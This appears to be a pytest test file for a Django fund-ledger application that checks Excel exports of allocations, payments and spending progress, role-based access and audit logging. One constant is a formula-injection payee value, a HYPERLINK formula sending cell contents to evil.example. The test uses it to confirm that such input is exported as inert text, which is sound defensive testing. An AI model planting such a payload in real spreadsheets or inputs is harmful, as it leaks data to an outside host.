"""P14: the fund ledger's workbooks — the ledger of one allocation document, the payment list of a county and
budget year, 支出进度 by source (a county, or every county for the prefecture) — read back with calamine equal
to the ledger (amounts exact in 万元), formula-safe, audited; and every workbook route by role (in scope 200,
out of scope 404, a role without the capability 403). Both databases."""

from __future__ import annotations

import datetime
import io
from collections.abc import Callable
from decimal import Decimal
from typing import Any

import pytest
from django.test import Client
from python_calamine import CalamineWorkbook

from tests.conftest import COUNTY, OTHER_COUNTY, TOWNSHIP
from tests.factories import make_user
from zhenxing.accounts.enums import Role
from zhenxing.accounts.models import User
from zhenxing.audit.models import AuditEvent
from zhenxing.common import clock
from zhenxing.funds import services
from zhenxing.funds.models import Allocation, Payment, Split

from .builders import allocation, fund_users, library_project

pytestmark = pytest.mark.django_db
HOSTILE_PAYEE = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def sheets(content: bytes) -> dict[str, list[list[Any]]]:
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    return {name: book.get_sheet_by_name(name).to_python() for name in book.sheet_names}


def by_header(rows: list[list[Any]], header_row: int = 1) -> list[dict[str, Any]]:
    header = [str(cell) for cell in rows[header_row]]
    return [dict(zip(header, row, strict=False)) for row in rows[header_row + 1 :]]


def wan(value: Any) -> Decimal:
    """A 万元 cell read back (a float) as the exact decimal it was written from."""
    return Decimal(repr(value)) if isinstance(value, float) else Decimal(str(value))


def day(value: Any) -> datetime.date:
    return value.date() if isinstance(value, datetime.datetime) else value


def build_ledger(users: dict[str, User]) -> dict[str, Any]:
    """A document with two lines of 南涧 (central 150, county 50.123456) and one of 大理 (central 30): a split
    of 80 to the road project, paid 30.5 (payee written like a formula) and 20, the 20 reversed by 5."""
    project = library_project(users["county"])
    document = allocation(
        users["prefecture_finance"], doc_number="大财农〔2026〕9号", level="province",
        lines=((COUNTY, "central", "150"), (COUNTY, "county", "50.123456"), (OTHER_COUNTY, "central", "30")),
    )  # fmt: skip
    line = document.lines.get(county__code=COUNTY, source="central")
    split = services.split_create(actor=users["finance"], line=line, project=project, amount="80")
    today = clock.today()
    first = services.payment_create(
        actor=users["finance"],
        split=split,
        amount="30.5",
        paid_on=today,
        payee=HOSTILE_PAYEE,
        voucher="记-001",
    )
    second = services.payment_create(
        actor=users["finance"],
        split=split,
        amount="20",
        paid_on=today,
        payee="南涧县鑫达建筑公司",
        voucher="记-002",
    )
    reversal = services.payment_reverse(
        actor=users["finance"], payment=second, amount="5", reason="多付，收回", voucher="冲-001", on=today
    )
    return {"project": project, "allocation": document, "line": line, "split": split, "payments": [first, second],
            "reversal": reversal}  # fmt: skip


def _client(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


def test_p14_the_ledger_of_a_document_reads_back_equal_to_the_ledger() -> None:
    # given a document with lines in two counties, a split, two payments and a reversal
    users = fund_users()
    built = build_ledger(users)
    # when the county's finance bureau downloads the document's ledger
    response = _client(users["finance"]).get(f"/funds/allocations/{built['allocation'].pk}/ledger.xlsx")
    assert response.status_code == 200
    book = sheets(response.content)
    rows = by_header(book["资金台账"])
    # then only its own county's lines are in it (大理's line is not), one row per payment, the unsplit line once
    assert {row["县(市)代码"] for row in rows} == {COUNTY}
    payments = [row for row in rows if row["凭证号"]]
    assert [row["凭证号"] for row in payments] == ["记-001", "记-002", "冲-001"]
    expected = {p.voucher: p.amount_fen for p in Payment.objects.all()}
    for row in payments:
        assert wan(row["支付金额（万元）"]) * 1_000_000 == expected[row["凭证号"]]
        assert row["项目编号"] == built["project"].code and wan(row["分配金额（万元）"]) == 80
        assert row["文号"] == "大财农〔2026〕9号" and row["下达层级"] == "省级"
        assert day(row["支付日期"]) == clock.today()
    assert payments[2]["冲销的凭证号"] == "记-002" and payments[2]["冲销原因"] == "多付，收回"
    county_line = next(
        row for row in rows if row["资金来源"] == "县级财政衔接资金" or row["下达金额（万元）"] == 50.123456
    )
    assert wan(county_line["下达金额（万元）"]) == Decimal("50.123456") and not county_line["项目编号"]
    # a payee that looks like a formula is text with a quote, never a formula
    assert payments[0]["收款单位"] == "'" + HOSTILE_PAYEE
    # the summary sheet holds the balances as the selectors compute them
    summary = {row["资金来源"]: row for row in by_header(book["指标汇总"])}
    central = summary[built["line"].get_source_display()]
    assert wan(central["指标余额"]) == 70 and wan(central["已支付（冲销后）"]) == Decimal("45.5")
    # and the download is audited
    event = AuditEvent.objects.get(action="fund.export")
    assert event.actor == users["finance"] and event.new_values["report"] == "资金台账"


def test_p14_the_payment_list_of_a_county_and_year_sums_to_the_paid_amount() -> None:
    users = fund_users()
    build_ledger(users)
    year = clock.today().year
    response = _client(users["prefecture"]).get(f"/funds/payments/{COUNTY}/{year}.xlsx")
    assert response.status_code == 200
    rows = by_header(sheets(response.content)["支付清单"])
    listed = [row for row in rows if row["凭证号"]]
    assert [wan(row["支付金额（万元）"]) for row in listed] == [Decimal("30.5"), Decimal("20"), Decimal("-5")]
    total = next(row for row in rows if row["序号"] == "合计")
    assert wan(total["支付金额（万元）"]) == Decimal("45.5")
    assert AuditEvent.objects.filter(action="fund.export", new_values__report="支付清单").count() == 1
    # another year has no payment
    other = by_header(
        sheets(_client(users["prefecture"]).get(f"/funds/payments/{COUNTY}/{year - 1}.xlsx").content)[
            "支付清单"
        ]
    )
    assert [row for row in other if row["凭证号"]] == []


def test_p14_progress_by_source_for_a_county_and_for_all_counties() -> None:
    users = fund_users()
    build_ledger(users)
    year = clock.today().year
    response = _client(users["finance"]).get(f"/funds/progress/{COUNTY}/{year}.xlsx")
    rows = by_header(sheets(response.content)["支出进度"])
    central = next(
        row for row in rows if row["资金来源"] == "中央财政衔接资金" or row["资金来源"].startswith("中央")
    )
    assert wan(central["下达金额（万元）"]) == 150 and wan(central["已支付（万元）"]) == Decimal("45.5")
    assert wan(central["已分配到项目（万元）"]) == 80 and wan(central["未分配（万元）"]) == 70
    assert wan(central["支出进度（%）"]) == Decimal("30.33")
    subtotal = next(row for row in rows if str(row["县(市)"]).endswith("小计"))
    assert wan(subtotal["下达金额（万元）"]) == Decimal("200.123456")
    # the prefecture's workbook of all counties has 大理's line and a grand total; a county's "all" is its own
    everything = by_header(
        sheets(_client(users["prefecture"]).get(f"/funds/progress/all/{year}.xlsx").content)["支出进度"]
    )
    assert {row["县(市)代码"] for row in everything} >= {COUNTY, OTHER_COUNTY}
    grand = next(row for row in everything if row["县(市)"] == "合计")
    assert wan(grand["下达金额（万元）"]) == Decimal("230.123456")
    own = by_header(
        sheets(_client(users["finance"]).get(f"/funds/progress/all/{year}.xlsx").content)["支出进度"]
    )
    assert {row["县(市)代码"] for row in own if row["县(市)代码"]} == {COUNTY}


def _ids(users: dict[str, User]) -> dict[str, Any]:
    built = build_ledger(users)
    return {"allocation": built["allocation"].pk, "county": COUNTY, "year": clock.today().year}


# route name → URL builder (the lead plugs these into tests/test_jurisdiction_matrix.py)
WORKBOOK_ROUTES: dict[str, Callable[[dict[str, Any]], str]] = {
    "funds:allocation_xlsx": lambda ids: f"/funds/allocations/{ids['allocation']}/ledger.xlsx",
    "funds:payments_xlsx": lambda ids: f"/funds/payments/{ids['county']}/{ids['year']}.xlsx",
    "funds:progress_xlsx": lambda ids: f"/funds/progress/{ids['county']}/{ids['year']}.xlsx",
}


@pytest.mark.parametrize("route", sorted(WORKBOOK_ROUTES))
def test_p14_workbook_routes_by_role(route: str) -> None:
    users = fund_users()
    ids = _ids(users)
    url = WORKBOOK_ROUTES[route](ids)
    # in scope: the county's finance bureau, its 乡村振兴局, the prefecture (auditors) and its finance bureau
    for role in ("finance", "county", "prefecture", "prefecture_finance"):
        assert _client(users[role]).get(url).status_code == 200, (route, role)
    # out of scope: another county's finance bureau (the document has a 大理 line, but a county's sheets are not)
    other = _client(users["other_finance"]).get(url).status_code
    assert other == (200 if route == "funds:allocation_xlsx" else 404), (route, other)
    # a role without VIEW_FUNDS
    township = make_user(Role.TOWNSHIP, TOWNSHIP, username="f_xiang")
    assert _client(township).get(url).status_code == 403


def test_p14_another_county_sees_only_its_own_line_of_a_shared_document() -> None:
    users = fund_users()
    ids = _ids(users)
    rows = by_header(
        sheets(_client(users["other_finance"]).get(WORKBOOK_ROUTES["funds:allocation_xlsx"](ids)).content)[
            "资金台账"
        ]
    )
    assert {row["县(市)代码"] for row in rows} == {OTHER_COUNTY}
    assert not any(row["凭证号"] for row in rows)
    # a document with no line of theirs is not found
    mine_only = allocation(users["finance"], doc_number="南财农〔2026〕77号")
    assert (
        _client(users["other_finance"]).get(f"/funds/allocations/{mine_only.pk}/ledger.xlsx").status_code
        == 404
    )
    assert Allocation.objects.count() == 2 and Split.objects.count() == 1


def test_p14_a_year_out_of_range_and_an_unknown_county_are_not_found() -> None:
    users = fund_users()
    client = _client(users["prefecture"])
    assert client.get(f"/funds/payments/{COUNTY}/1999.xlsx").status_code == 404
    assert client.get(f"/funds/progress/999999/{clock.today().year}.xlsx").status_code == 404
    township = make_user(Role.TOWNSHIP, TOWNSHIP, username="f_xiang2")
    assert _client(township).get(f"/funds/progress/all/{clock.today().year}.xlsx").status_code == 403


def test_p14_progress_workbook_of_a_year_before_the_schedule_parameter_says_unconfigured() -> None:
    # given a document of budget year 2020, before the fund schedule parameter's first year (2021)
    users = fund_users()
    allocation(users["finance"], doc_number="南财农〔2020〕1号", budget_year=2020,
               issued_on=datetime.date(2020, 3, 1))  # fmt: skip
    # when its 支出进度 workbook is asked for
    response = _client(users["finance"]).get(f"/funds/progress/{COUNTY}/2020.xlsx")
    # then it is the workbook (no 500), its title saying the target is 未配置, and the export audited
    assert response.status_code == 200
    table = sheets(response.content)["支出进度"]
    assert "进度要求：未配置" in str(table[0][0])
    assert wan(by_header(table)[0]["下达金额（万元）"]) == 150
    assert AuditEvent.objects.filter(action="fund.export", new_values__year=2020).exists()
